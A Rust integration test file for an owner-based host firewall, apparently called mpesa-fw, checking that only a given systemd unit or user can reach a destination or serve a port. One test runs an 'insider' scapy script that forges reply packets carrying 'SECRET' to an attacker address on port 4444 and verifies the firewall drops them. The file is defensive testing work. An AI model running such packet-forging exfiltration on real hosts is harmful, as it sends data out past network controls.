//! Rules for the sockets of a unit or a user: real cgroups, real users, and the programs of an insider.

mod support;

use std::{fs, path::Path, process::Command};

use anyhow::Result;
use support::{
    Field, SOON,
    groups::{Groups, connects, hears, listens, program},
    kinds, policy, web,
};
use testbed::{Answer, Curl, Host, Process, holds, ok, place, run};

fn owner_of<'s>(status: &'s serde_json::Value, owner: &str) -> Option<&'s serde_json::Value> {
    status["owners"].as_array()?.iter().find(|entry| entry["owner"] == owner)
}

#[test]
#[ignore = "needs root and a kernel"]
fn only_the_unit_reaches_the_destination() -> Result<()> {
    let Some(groups) = Groups::new("unit")? else { return Ok(()) };
    let field = Field::new()?;
    let api = field.network.add(place::API)?;
    let _web = web(&field.network, &api, &[443])?;
    let (unit, other) = (groups.unit("payments"), groups.unit("other"));
    let firewall = field.firewall()?;
    let daraja = format!(
        "{{ name: daraja, to: [192.0.2.80, '2001:db8:0:80::80'], ports: [443], by: {{ unit: {unit} }} }}"
    );
    firewall.policy(&policy(&[], &[&daraja]))?;
    let other = groups.start(&other)?;
    let mut agent = firewall.start(&[])?;
    let here = |group: Option<&Path>, uid| connects(&field.host, group, uid, api.place.v4.into());

    // The unit does not run yet: nobody may, and it is said.
    assert!(!here(None, 0)? && !here(Some(&other), 0)?);
    let status = firewall.status()?;
    assert_eq!(
        owner_of(&status, &format!("unit {unit}")).map(|entry| entry["present"].as_u64()),
        Some(Some(0))
    );
    assert!(firewall.ask(["status"])?.stdout.contains("not there: what only it may do is denied"));

    let why = firewall.ask(["why", "--egress", "--to", "192.0.2.80", "--port", "443"])?;
    assert_eq!(why.code, Some(1), "{}", why.text());
    for part in ["owner_not_allowed", &format!("is for: unit {unit}"), "names no owner"] {
        assert!(why.text().contains(part), "{part}: {}", why.text());
    }

    // It starts.
    let group = groups.start(&unit)?;
    holds("the unit to be found", SOON, || here(Some(&group), 0).is_ok_and(|open| open))?;
    let before = firewall.metrics()?;
    assert!(
        connects(&field.host, Some(&group), 4711, api.place.v6.into())?,
        "whatever the user, and by IPv6"
    );
    assert!(!here(None, 0)? && !here(Some(&other), 0)?, "an insider, root too, is none of it");
    assert_eq!(kinds(&firewall.metrics()?.drops_since(&before)), ["egress daraja owner_not_allowed"]);
    // `why` knows what became of each.
    let ask = |owner: &[&str]| {
        let question = ["why", "--egress", "--to", "192.0.2.80", "--port", "443"];
        firewall.ask(question.into_iter().chain(owner.iter().copied()))
    };
    let why = ask(&["--unit", &unit, "--user", "4711"])?;
    assert!(why.code == Some(0) && why.text().contains(&format!("its owner: unit {unit}")), "{}", why.text());
    for owner in [["--unit", &groups.unit("other")], ["--user", "root"]] {
        let why = ask(&owner)?;
        assert!(why.code == Some(1) && why.text().contains("owner is none of them"), "{}", why.text());
    }
    let why = ask(&["--unit", "mpesa-fw-test-nothing.service"])?;
    assert!(why.stderr.contains("no unit mpesa-fw-test-nothing.service runs now"), "{}", why.text());
    // Its sub-groups are of it.
    let below = group.join("worker");
    fs::create_dir(&below)?;
    assert!(here(Some(&below), 0)?);

    // Nobody has to be there for it.
    agent.process.kill()?;
    assert!(here(Some(&group), 0)? && !here(Some(&other), 0)?);
    let _agent = firewall.start(&[])?;
    assert!(here(Some(&group), 0)? && !here(Some(&other), 0)?);

    // A restart: another group, which is known by another id; what had the old one is gone.
    Groups::stop(&below)?;
    Groups::stop(&group)?;
    holds("the end to be seen", SOON, || {
        firewall.status().is_ok_and(|status| {
            owner_of(&status, &format!("unit {unit}")).is_some_and(|entry| entry["present"] == 0)
        })
    })?;
    assert!(!here(Some(&other), 0)?);
    let group = groups.start(&unit)?;
    holds("the unit to be found again", SOON, || here(Some(&group), 0).is_ok_and(|open| open))?;
    Ok(())
}

/// A unit that comes and goes while others try: neither its number nor its name ever is theirs.
#[test]
#[ignore = "needs root and a kernel"]
fn nobody_else_is_taken_for_a_unit_that_starts_anew() -> Result<()> {
    const TIMES: u32 = 30;
    // Tries until it is told to end, and says how often it came through.
    const TRIES: &str = "
import os, socket, sys
opened = tried = 0
print('trying', flush=True)
while not os.path.exists('GO'):
    with socket.socket() as s:
        s.settimeout(0.05)
        tried += 1
        try:
            s.connect(('192.0.2.80', 443))
            opened += 1
        except OSError:
            pass
print('opened', opened, 'of', tried)
";
    let Some(groups) = Groups::new("anew")? else { return Ok(()) };
    let field = Field::new()?;
    let api = field.network.add(place::API)?;
    let _web = web(&field.network, &api, &[443])?;
    let unit = groups.unit("payments");
    let (firewall, _agent) = field.protected(&policy(
        &[],
        &[&format!("{{ name: daraja, to: [192.0.2.80], ports: [443], by: {{ unit: {unit} }} }}")],
    ))?;
    let mut group = groups.start(&unit)?;
    let open = |group: &Path| connects(&field.host, Some(group), 0, api.place.v4.into());
    holds("the unit to be found", SOON, || open(&group).is_ok_and(|open| open))?;

    let before = support::settled(&firewall)?;
    let other = groups.start(&groups.unit("other"))?;
    let end = firewall.logs().join("end");
    let script = TRIES.replace("GO", &end.to_string_lossy());
    let mut tries = Process::spawn(program(&field.host, Some(&other), 0, &script), "other", firewall.logs())?;
    tries.wait_for_log("trying", SOON)?;
    for turn in 0..testbed::fewer(TIMES) {
        Groups::stop(&group)?;
        // The first to come after it.
        let next = groups.start(&groups.unit("next"))?;
        group = groups.start(&unit)?;
        let told = hears(&field.host, Some(&next), 0, api.place.v4.into(), 443)?;
        assert_eq!(told, "timed out", "turn {turn}");
        Groups::stop(&next)?;
    }
    fs::write(&end, "")?;
    tries.wait_for_log("opened", SOON)?;
    println!("{}", tries.log());
    assert!(tries.log().contains("opened 0 of "), "{}", tries.log());
    let now = firewall.metrics()?;
    assert_eq!(support::passed_since(&now, &before, "egress", "daraja"), 0, "not one packet");
    assert_eq!(kinds(&now.drops_since(&before)), ["egress daraja owner_not_allowed"]);
    holds("the unit to be found again", SOON, || open(&group).is_ok_and(|open| open))?;
    Ok(())
}

/// A user makes groups of any name where systemd lets him, as with `systemd-run --user --unit=payments`.
#[test]
#[ignore = "needs root and a kernel"]
fn a_unit_that_a_user_made_is_none() -> Result<()> {
    let Some(groups) = Groups::new("delegated")? else { return Ok(()) };
    let field = Field::new()?;
    let api = field.network.add(place::API)?;
    let _web = web(&field.network, &api, &[443])?;
    let unit = groups.unit("payments");
    // As systemd does for `user@4711.service`.
    let delegated = groups.start("user@4711.service")?;
    std::os::unix::fs::chown(&delegated, Some(4711), Some(4711))?;
    std::os::unix::fs::chown(delegated.join("cgroup.procs"), Some(4711), Some(4711))?;
    let firewall = field.firewall()?;
    let daraja = format!("{{ name: daraja, to: [192.0.2.80], ports: [443], by: {{ unit: {unit} }} }}");
    firewall.policy(&policy(&[], &[&daraja]))?;
    let _agent = firewall.start(&[])?;
    let group = delegated.join(&unit);
    ok(Command::new("setpriv").args(["--reuid", "4711", "--clear-groups", "mkdir"]).arg(&group))?;
    // So does the root of a container that has its groups to himself.
    let inside = groups.start("container.scope")?.join("system.slice").join(&unit);
    fs::create_dir_all(&inside)?;
    // The one of root is found, so the others would have been.
    let real = groups.start(&unit)?;
    holds("the unit to be found", SOON, || {
        connects(&field.host, Some(&real), 0, api.place.v4.into()).is_ok_and(|open| open)
    })?;
    for none in [&group, &inside] {
        assert!(!connects(&field.host, Some(none), 0, api.place.v4.into())?, "{}", none.display());
    }
    assert_eq!(
        owner_of(&firewall.status()?, &format!("unit {unit}")).map(|e| e["present"].as_u64()),
        Some(Some(1))
    );
    Ok(())
}

#[test]
#[ignore = "needs root and a kernel"]
fn users_and_ports_that_change_hands() -> Result<()> {
    let field = Field::new()?;
    let api = field.network.add(place::API)?;
    let _web = web(&field.network, &api, &[443])?;
    let (firewall, _agent) = field.protected(&policy(
        &[],
        &[
            "{ name: daraja, to: [192.0.2.80], ports: [443], by: [{ user: 4711 }, { user: 4712 }] }",
            "{ name: log, to: [192.0.2.80], protocol: udp, ports: [5514], by: { user: 4711 } }",
        ],
    ))?;
    let open = |uid| connects(&field.host, None, uid, api.place.v4.into());
    assert!(open(4711)? && open(4712)? && !open(4713)? && !open(0)?);

    // A datagram's flow lives on; whoever binds the port after its owner is not its owner.
    let mut capture = api.namespace.command("timeout");
    capture.args(["20", "tcpdump", "-lnni", Host::INTERFACE, "udp and dst port 5514"]);
    let mut capture = Process::spawn(capture, "tcpdump", firewall.logs())?;
    capture.wait_for_log("listening on", SOON)?;
    let send = |uid: u32, text: &str| -> Result<()> {
        let script = format!(
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.bind(('', 5140))\n\
             s.sendto(b'{text}', ('192.0.2.80', 5514))"
        );
        run(&mut program(&field.host, None, uid, &script)).map(drop)
    };
    send(4711, "x")?; // 1 octet
    holds("the owner's datagram", SOON, || capture.log().contains("length 1"))?;
    let before = firewall.metrics()?;
    send(4712, "xx")?;
    send(0, "xxx")?;
    send(4711, "xxxx")?;
    holds("the owner's second", SOON, || capture.log().contains("length 4"))?;
    assert!(
        !capture.log().contains("length 2\n") && !capture.log().contains("length 3\n"),
        "{}",
        capture.log()
    );
    assert_eq!(kinds(&firewall.metrics()?.drops_since(&before)), ["egress log owner_not_allowed"]);
    Ok(())
}

/// What a developer left listening on the port of a service answers nobody.
#[test]
#[ignore = "needs root and a kernel"]
fn only_its_owner_serves() -> Result<()> {
    let Some(groups) = Groups::new("serves")? else { return Ok(()) };
    let field = Field::new()?;
    let unit = groups.unit("api");
    let group = groups.start(&unit)?;
    let (firewall, _agent) = field.protected(&policy(
        &[&format!("{{ name: web, ports: [80], from: [196.201.214.200], by: {{ unit: {unit} }} }}")],
        &[],
    ))?;
    let serve = |group: Option<&Path>, name: &str| {
        let script = "import http.server\nhttp.server.HTTPServer(('', 80), http.server.SimpleHTTPRequestHandler).serve_forever()";
        Process::spawn(program(&field.host, group, 0, script), name, firewall.logs())
    };
    let listens = || listens(&field.host, 80);
    let get = || Curl::http(field.host.place.v4, 80).from(&field.safaricom.namespace);
    let mut developer = serve(None, "developer")?;
    holds("a listener", SOON, listens)?;
    let before = firewall.metrics()?;
    assert_eq!(get(), Answer::Silence);
    let drops = firewall.metrics()?.drops_since(&before);
    assert_eq!(kinds(&drops), ["egress - owner_not_allowed"]);
    developer.kill()?;
    holds("its end", SOON, || !listens())?;
    let _unit = serve(Some(&group), "unit")?;
    holds("a listener", SOON, listens)?;
    assert!(get().is_ok());
    Ok(())
}

/// Whoever may open raw sockets writes any header, also that of an answer.
#[test]
#[ignore = "needs root and a kernel"]
fn answers_that_are_made_up_do_not_leave() -> Result<()> {
    // An insider's programs are in some group; those of a machine without systemd in the root, like the kernel's own.
    let Some(groups) = Groups::new("raw")? else { return Ok(()) };
    let group = groups.start("insider.service")?;
    let field = Field::new()?;
    let _web = field.web(&[80])?;
    let ping = "{ name: ping, protocol: [icmp, icmpv6], types: [echo-request], from: [any] }";
    let (firewall, _agent) =
        field.protected(&policy(&["{ name: web, ports: [80], from: [any] }", ping], &[]))?;
    let attacker = field.attacker.place.v4;
    let mut capture = field.attacker.namespace.command("timeout");
    capture.args(["20", "tcpdump", "-lnni", Host::INTERFACE, "src", "203.0.113.10"]);
    let mut capture = Process::spawn(capture, "tcpdump", firewall.logs())?;
    capture.wait_for_log("listening on", SOON)?;
    let before = firewall.metrics()?;
    let script = format!(
        "from scapy.all import *\nconf.verb = 0\n\
         router = getmacbyip('203.0.113.1')\n\
         # A raw socket, then a packet socket. Some are told that it was dropped.\n\
         for send_it in (send, lambda p: sendp(Ether(dst=router) / p)):\n    \
             for p in (TCP(sport=80,dport=4444,flags='PA'), ICMP(type=0,id=7)):\n        \
                 try:\n            \
                     send_it(IP(dst='{attacker}')/p/('SECRET'))\n        \
                 except OSError:\n            \
                     pass\n"
    );
    ok(&mut program(&field.host, Some(&group), 0, &script))?;
    // What the kernel says goes on: pings, and a connection.
    assert!(
        ok(field.attacker.namespace.command("ping").args(["-c", "1", "-W", "3", "203.0.113.10"]))?
            .contains("1 received")
    );
    assert!(Curl::http(field.host.place.v4, 80).from(&field.attacker.namespace).is_ok());
    assert!(!capture.log().contains(".4444") && !capture.log().contains("id 7"), "{}", capture.log());
    let drops = firewall.metrics()?.drops_since(&before);
    assert_eq!(kinds(&drops), ["egress - no_destination"]);
    Ok(())
}

/// A policy with owners, and what is wrong with one.
#[test]
fn owners_are_checked() -> Result<()> {
    let directory = tempfile::tempdir()?;
    let rules = directory.path().join("rules.yaml");
    let check = |by: &str| -> Result<(Option<i32>, String)> {
        let rule = format!("{{ name: daraja, to: [192.0.2.80], ports: [443], by: {by} }}");
        let text = format!(
            "version: 1\ninterfaces: [eth0]\ningress: {{ default: drop, services: [] }}\negress: {{ default: drop, allow: [{rule}] }}\n"
        );
        fs::write(&rules, text)?;
        let mut command = Command::new(env!("CARGO_BIN_EXE_mpesa-fw"));
        let ran = run(command.args(["check", "--ignore-permissions"]).arg(&rules))?;
        Ok((ran.code, ran.text()))
    };
    for good in [
        "{ unit: payments.service }",
        "{ unit: payments@.service }",
        "{ user: 4711 }",
        "[{ user: root }, { unit: a.slice }]",
    ] {
        let (code, text) = check(good)?;
        assert_eq!(code, Some(0), "{good}: {text}");
    }
    for (bad, part) in [
        ("{}", "needs `unit` or `user`"),
        ("[]", "empty list"),
        ("{ unit: payments }", "of which kind"),
        ("{ unit: .service }", "nothing before the dot"),
        ("{ unit: 'a b.service' }", "contains ' '"),
        ("{ user: nobody }", "can't own"),
        ("{ user: 65534 }", "can't own"),
        ("{ user: 4294967295 }", "not the number of a user"),
        ("{ user: 'a:b' }", "not the name of a user"),
        ("{ unit: a.service, user: b }", "not both"),
        ("{ units: a.service }", "did you mean `unit`"),
        ("[{ user: 1 }, { user: 1 }]", "twice"),
        ("payments.service", "expected an owner"),
    ] {
        let (code, text) = check(bad)?;
        assert!(code == Some(1) && text.contains(part), "{bad}: {text}");
    }
    Ok(())
}
